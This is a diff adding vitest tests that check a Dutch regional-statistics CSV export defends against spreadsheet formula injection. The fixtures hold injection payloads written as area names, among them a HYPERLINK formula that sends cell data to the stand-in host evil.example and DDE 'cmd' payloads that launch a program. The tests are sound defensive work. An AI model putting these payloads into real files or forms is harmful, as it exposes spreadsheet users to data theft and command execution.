@@ -1,5 +1,8 @@
-import { describe, expect, it } from 'vitest';
-import { areaCsv, CSV_HEADER } from '../../../shared/regional/csv.ts';
+import { describe, expect, it, test } from 'vitest';
+import { parse } from 'csv-parse/sync';
+import { compileSeed, seedFiles } from '../../../shared/imports/seed.ts';
+import { areaCsv, csvCell, CSV_HEADER } from '../../../shared/regional/csv.ts';
+import { buildRegionalView } from '../../../shared/regional/view.ts';
 import { testView } from './helpers.ts';
 
 describe('areaCsv', () => {
@@ -23,5 +26,59 @@ describe('areaCsv', () => {
     const swv = areaCsv(view, view.areas.get('PO 01-01')!);
     expect(swv).toMatch(/aandeel_jongeren_0_14;[^;]*;2022;;%;onvolledig;/);
     expect(swv).toMatch(/pct_jeugdhulp_in_natura;[^;]*;2022;;%;niet op te tellen;/);
+  });
+});
+
+describe('areaCsv against CSV formula injection (OWASP)', () => {
+  // Area names as an imported SWV names file may carry them (issue 10).
+  const NAMES: [string, string][] = [
+    ['PO 27-07', '=HYPERLINK("http://evil.example/?x="&A1,"klik")'],
+    ['PO 27-09', '+cmd|\' /C calc\'!A0'],
+    ['VO 27-08', '-2+3+cmd|\' /C calc\'!A0'],
+    ['VO 27-10', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ['PO 27-05', '\tTab=1+1'],
+    ['VO 27-05', '\r=1+1'],
+  ];
+  const namesFile = ['swv_code;naam', ...NAMES.map(([code, name]) => `${code};"${name.replaceAll('"', '""')}"`)].join('\n');
+  const compiled = compileSeed([...seedFiles(), { fileName: 'TESTDATA_swv-namen-injection.csv', bytes: Buffer.from(namesFile) }]);
+  if (!compiled.ok) throw new Error(`${compiled.fileName}: ${JSON.stringify(compiled.errors.slice(0, 3))}`);
+  const view = buildRegionalView(compiled.snapshot);
+
+  /** The cells of a CSV as a spreadsheet reads them (quotes removed). */
+  const cells = (csv: string) => parse(csv.slice(1), { delimiter: ';', bom: false, relax_column_count: true }) as string[][];
+
+  for (const [code, name] of NAMES) {
+    test(`the name ${JSON.stringify(name.slice(0, 12))} of ${code} is written as text, not a formula`, () => {
+      const area = view.areas.get(code)!;
+      expect(area.name).toBe(name);
+      const rows = cells(areaCsv(view, area));
+      expect(rows.length).toBeGreaterThan(1);
+      for (const row of rows.slice(1)) {
+        expect(row[1]).toBe(`'${name}`);
+        for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+      }
+    });
+  }
+
+  test('every cell of every download of the snapshot is safe, and numbers stay numbers', () => {
+    let values = 0;
+    for (const area of view.areas.values()) {
+      for (const row of cells(areaCsv(view, area)).slice(1)) {
+        for (const cell of row) {
+          if (/^-?\d+(,\d+)?$/.test(cell)) continue;
+          expect(cell, `${area.code}: ${cell}`).not.toMatch(/^[=+\-@\t\r]/);
+        }
+        if (row[5] !== '') {
+          expect(row[5]).toMatch(/^-?\d+(,\d+)?$/);
+          values++;
+        }
+      }
+    }
+    expect(values).toBeGreaterThan(1000);
+  });
+
+  test('a negative number stays a number', () => {
+    expect(csvCell('-2,5')).toBe('-2,5');
+    expect(csvCell('-2+3')).toBe(`"'-2+3"`);
   });
 });
